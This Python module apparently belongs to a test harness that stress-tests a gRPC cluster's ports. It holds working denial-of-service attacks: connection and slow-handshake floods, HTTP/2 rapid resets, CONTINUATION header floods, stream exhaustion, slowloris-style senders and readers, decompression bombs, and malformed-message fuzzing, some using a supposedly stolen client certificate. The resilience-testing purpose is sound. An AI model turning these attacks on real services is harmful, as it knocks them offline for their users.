"""Attacks on one port of a yard. Each keeps on until it is closed, at a rate that is bounded in its own text.

An attack is a generator: it does a part of its work, and yields how many seconds it pauses. `carry_out` runs one.
Connections that the victim closes are opened again, which a real attacker does too.

Owns: what each attack sends, and how often. Must not know: who is harmed, and how that is measured.
"""

from __future__ import annotations

import contextlib
import gzip
import itertools
import random
import selectors
import socket
import ssl
import threading
import zlib
from collections.abc import Callable, Generator, Iterator
from dataclasses import dataclass
from functools import cached_property
from pathlib import Path
from typing import Final

from harness.attacks import http2
from shardyard.security.roles import ALLOWED
from shardyard.wire import methods

CONNECT_S: Final = 5.0
PAUSE_S: Final = 0.05
SILENT: Final = 1_000
"""Connections that are open and silent."""
SLOW: Final = 200
STREAMS: Final = 4_000
"""Of one port: 12,000 in a yard with three."""
STREAMS_PER_CONNECTION: Final = 1_000
STREAMS_S: Final = 2.5
"""How long it takes to open them all."""
RESETS_PER_S: Final = 400
CALLS_PER_S: Final = 200
HANDSHAKES_PER_S: Final = 20
HEADERS_BYTES: Final = 1 << 20
BOMB_BYTES: Final = 32 << 20
"""What a message becomes of which the server has given leave to send 64 KiB, as it does at first."""
BOMB_S: Final = 0.5

Steps = Generator[float, None, None]


@dataclass(frozen=True)
class Victim:
    """A process of the yard. `identity`: the folder of a certificate that the attacker has stolen; None: it has none.
    `service`: of the port, as `Coordinator`."""

    address: str
    service: str
    identity: Path | None = None

    def connect(self) -> socket.socket:
        """Raises OSError."""
        host, _, port = self.address.rpartition(":")
        return socket.create_connection((host, int(port)), timeout=CONNECT_S)

    def secure(self, first: bytes = b"") -> ssl.SSLSocket:
        """A connection after its handshake, which has sent `first`. Raises OSError."""
        plain = self.connect()
        try:
            secured = self._tls.wrap_socket(plain)
            secured.sendall(first)
        except OSError:
            plain.close()
            raise
        return secured

    def client_hello(self) -> bytes:
        """The first message of a handshake."""
        out = ssl.MemoryBIO()
        with contextlib.suppress(ssl.SSLWantReadError):
            self._tls.wrap_bio(ssl.MemoryBIO(), out).do_handshake()
        return out.read()

    @cached_property
    def paths(self) -> list[str]:
        """The methods of this port."""
        return sorted(path for path in ALLOWED if path.split("/")[1].endswith("." + self.service))

    @cached_property
    def unary(self) -> str:
        """A method that a worker may call with an empty message."""
        return methods.DESCRIBE_SERVER.path if self.service == "ParameterServer" else methods.STATUS.path

    @cached_property
    def streamed(self) -> str:
        """A method with a stream of requests, where the port has one."""
        return methods.PUSH_PULL.path if self.service == "ParameterServer" else methods.HEARTBEAT.path

    @cached_property
    def _tls(self) -> ssl.SSLContext:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        if self.identity is not None:
            context.load_cert_chain(self.identity / "tls.crt", self.identity / "tls.key")
        return context


def carry_out(attack: Callable[[Victim], Steps], victim: Victim, stop: threading.Event) -> None:
    """Runs an attack until `stop` is set."""
    with contextlib.closing(attack(victim)) as steps:
        for pause_s in steps:
            if stop.wait(pause_s):
                return


class Flock:
    """Many connections. Those that the victim has closed are closed here too. Of what it sends, only the frames are
    answered that every client answers; else it would close the connection."""

    def __init__(self, most: int, open_: Callable[[], socket.socket]) -> None:
        self._most, self._open = most, open_
        self._all: dict[socket.socket, bytearray] = {}
        """What each has received of a frame that is not whole yet."""
        self._selector = selectors.DefaultSelector()

    def fill(self, most: int) -> None:
        """Opens at most so many of those that are missing."""
        for _ in range(min(most, self._most - len(self._all))):
            try:
                opened = self._open()
            except OSError:
                return
            opened.setblocking(False)
            self._all[opened] = bytearray()
            self._selector.register(opened, selectors.EVENT_READ)

    def look(self) -> None:
        """Reads what has come, answers it, and drops what was closed."""
        for key, _ in self._selector.select(0):
            each = key.fileobj
            assert isinstance(each, socket.socket)
            try:
                while content := each.recv(1 << 16):
                    self._all[each] += content
                self._drop(each)
            except (BlockingIOError, ssl.SSLWantReadError):
                self._answer(each)
            except OSError:
                self._drop(each)

    def send_to_all(self, content: bytes) -> None:
        """Sends as much of it as there is room for."""
        for each in list(self._all):
            self._send(each, content)

    def _answer(self, each: socket.socket) -> None:
        if isinstance(each, ssl.SSLSocket) and (content := http2.replies(self._all[each])):
            self._send(each, content)

    def _send(self, each: socket.socket, content: bytes) -> None:
        try:
            each.send(content)
        except (BlockingIOError, ssl.SSLWantWriteError):
            return
        except OSError:
            self._drop(each)

    def _drop(self, dropped: socket.socket) -> None:
        del self._all[dropped]
        self._selector.unregister(dropped)
        dropped.close()

    def close(self) -> None:
        for each in self._all:
            each.close()
        self._selector.close()


# ---- without a certificate


def half_open(victim: Victim) -> Steps:
    """1,000 TCP connections on which nothing is sent."""
    with contextlib.closing(Flock(SILENT, lambda: victim.connect())) as flock:
        while True:
            flock.fill(SILENT // 10)
            flock.look()
            yield PAUSE_S


def stopped_handshakes(victim: Victim) -> Steps:
    """TLS handshakes that stop after their first message."""
    hello = victim.client_hello()

    def open_() -> socket.socket:
        opened = victim.connect()
        opened.sendall(hello)
        return opened

    with contextlib.closing(Flock(SLOW, open_)) as flock:
        while True:
            flock.fill(SLOW // 20)
            flock.look()
            yield PAUSE_S


def slow_handshakes(victim: Victim) -> Steps:
    """TLS handshakes that come a byte a second."""
    hello = victim.client_hello()
    with contextlib.closing(Flock(SLOW, lambda: victim.connect())) as flock:
        for at in itertools.cycle(range(len(hello))):
            flock.fill(SLOW)
            flock.look()
            flock.send_to_all(hello[at : at + 1])
            yield 1.0


def garbage(victim: Victim) -> Steps:
    """HTTP/1, HTTP/2 without TLS, records of TLS that are none, and random bytes."""
    dice = random.Random(1)
    texts = (
        b"GET / HTTP/1.1\r\nHost: yard\r\n\r\n",
        http2.begin() + http2.call(1, victim.unary),
        b"\x16\x03\x01\xff\xff" + dice.randbytes(4_096),
        b"\x80\xff\x01\x03\x01" + dice.randbytes(512),
        dice.randbytes(4_096),
    )
    for text in itertools.cycle(texts):
        with contextlib.suppress(OSError), victim.connect() as opened:
            opened.sendall(text)
        yield 1 / CALLS_PER_S


def refused_handshakes(victim: Victim) -> Steps:
    """Whole handshakes without a certificate, each with a call on 500 streams right behind: 10,000 streams a second. In
    TLS 1.3 the client has finished before the server has looked."""
    streams = http2.begin() + b"".join(http2.call(1 + 2 * each, victim.unary) for each in range(500))
    nobody = Victim(victim.address, victim.service)
    while True:
        with contextlib.suppress(OSError), nobody.secure(streams):
            pass
        yield 1 / HANDSHAKES_PER_S


# ---- with a stolen certificate


def oversized_headers(victim: Victim) -> Steps:
    """Calls with a header of 1 MiB, in frames that go on without an end."""
    block = http2.headers(victim.unary, junk="x" * HEADERS_BYTES)
    pieces = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]
    first, *rest = pieces
    while True:
        with contextlib.suppress(OSError), victim.secure(http2.begin()) as opened:
            opened.sendall(http2.frame(http2.HEADERS, 1, first))
            for piece in rest:
                opened.sendall(http2.frame(http2.CONTINUATION, 1, piece))
        yield 1 / HANDSHAKES_PER_S


def many_streams(victim: Victim) -> Steps:
    """4,000 calls at a time that send no message, on four connections."""

    def open_() -> socket.socket:
        numbers = range(1, 2 * STREAMS_PER_CONNECTION, 2)
        return victim.secure(http2.begin() + b"".join(http2.call(each, victim.streamed) for each in numbers))

    with contextlib.closing(Flock(STREAMS // STREAMS_PER_CONNECTION, open_)) as flock:
        while True:
            flock.fill(1)
            flock.look()
            yield STREAMS_S / (STREAMS // STREAMS_PER_CONNECTION)


def resets(victim: Victim) -> Steps:
    """Calls that are reset: before their headers are whole, after them, within a message, and after a whole one."""
    half, whole = http2.message(b"x" * 100, claims_bytes=1_000), http2.message(b"")
    numbers = itertools.count(1, 2)

    def streams() -> Iterator[bytes]:
        for path, sent in ((victim.streamed, b""), (victim.streamed, half), (victim.unary, whole)):
            number = next(numbers)
            yield http2.call(number, path) + (http2.data(number, sent) if sent else b"") + http2.reset(number)

    cut_off = http2.begin() + http2.frame(http2.HEADERS, 1, http2.headers(victim.unary)) + http2.reset(1)
    with contextlib.closing(Flock(1, lambda: victim.secure(http2.begin()))) as flock:
        while True:
            flock.fill(1)
            flock.look()
            for _ in range(int(RESETS_PER_S * PAUSE_S / 3)):
                flock.send_to_all(b"".join(streams()))
            with contextlib.suppress(OSError), victim.secure(cut_off):
                pass
            yield PAUSE_S


def slow_senders(victim: Victim) -> Steps:
    """Calls whose message comes a byte a second."""
    first = http2.begin() + http2.call(1, victim.unary) + http2.data(1, http2.message(b"", claims_bytes=1 << 20))
    with contextlib.closing(Flock(SLOW, lambda: victim.secure(first))) as flock:
        while True:
            flock.fill(SLOW // 4)
            flock.look()
            flock.send_to_all(http2.data(1, b"x"))
            yield 1.0


def slow_readers(victim: Victim) -> Steps:
    """Calls whose answers may be sent a byte a second."""
    calls = b"".join(
        http2.call(number, victim.unary) + http2.data(number, http2.message(b""), last=True)
        for number in range(1, 2 * SLOW, 2)
    )
    first = http2.begin({http2.INITIAL_WINDOW_SIZE: 0}) + calls
    with contextlib.closing(Flock(SLOW // 50, lambda: victim.secure(first))) as flock:
        while True:
            flock.fill(1)
            flock.look()
            flock.send_to_all(b"".join(http2.widen(number, 1) for number in range(1, 2 * SLOW, 2)))
            yield 1.0


def compressed_bombs(victim: Victim) -> Steps:
    """Messages of gRPC that become 32 MiB, compressed by gzip and deflate."""
    bombs = {"gzip": gzip.compress(bytes(BOMB_BYTES)), "deflate": zlib.compress(bytes(BOMB_BYTES))}
    for encoding in itertools.cycle(bombs):
        for path in (victim.unary, victim.streamed):
            sent = http2.begin() + http2.call(1, path, grpc_encoding=encoding)
            sent += http2.data(1, http2.message(bombs[encoding], compressed=True), last=True)
            with contextlib.suppress(OSError), victim.secure(sent) as opened:
                opened.settimeout(BOMB_S)
                while opened.recv(1 << 16):
                    pass
            yield PAUSE_S


def malformed(victim: Victim) -> Steps:
    """Every method of the port, with fields that no message has and lengths that are wrong."""
    dice = random.Random(1)
    numbers = itertools.count(1, 2)
    with contextlib.closing(Flock(1, lambda: victim.secure(http2.begin()))) as flock:
        for path in itertools.cycle(victim.paths):
            flock.fill(1)
            flock.look()
            for _ in range(int(CALLS_PER_S * PAUSE_S)):
                number = next(numbers)
                content = http2.message(nonsense(dice))
                flock.send_to_all(http2.call(number, path) + http2.data(number, content, last=True))
            yield PAUSE_S


def nonsense(dice: random.Random) -> bytes:
    """Something like a message of protobuf."""
    fields = []
    for _ in range(dice.randrange(8)):
        tag = bytes((dice.randrange(256),))
        lies = dice.choice((b"\xff\xff\xff\xff\x0f", bytes((dice.randrange(128),))))
        fields.append(tag + lies + dice.randbytes(dice.randrange(64)))
    return b"".join(fields)


OUTSIDERS: Final = (half_open, stopped_handshakes, slow_handshakes, garbage, refused_handshakes)
STOLEN: Final = (
    oversized_headers,
    many_streams,
    resets,
    slow_senders,
    slow_readers,
    compressed_bombs,
    malformed,
)
ATTACKS: Final = {attack.__name__: attack for attack in (*OUTSIDERS, *STOLEN)}
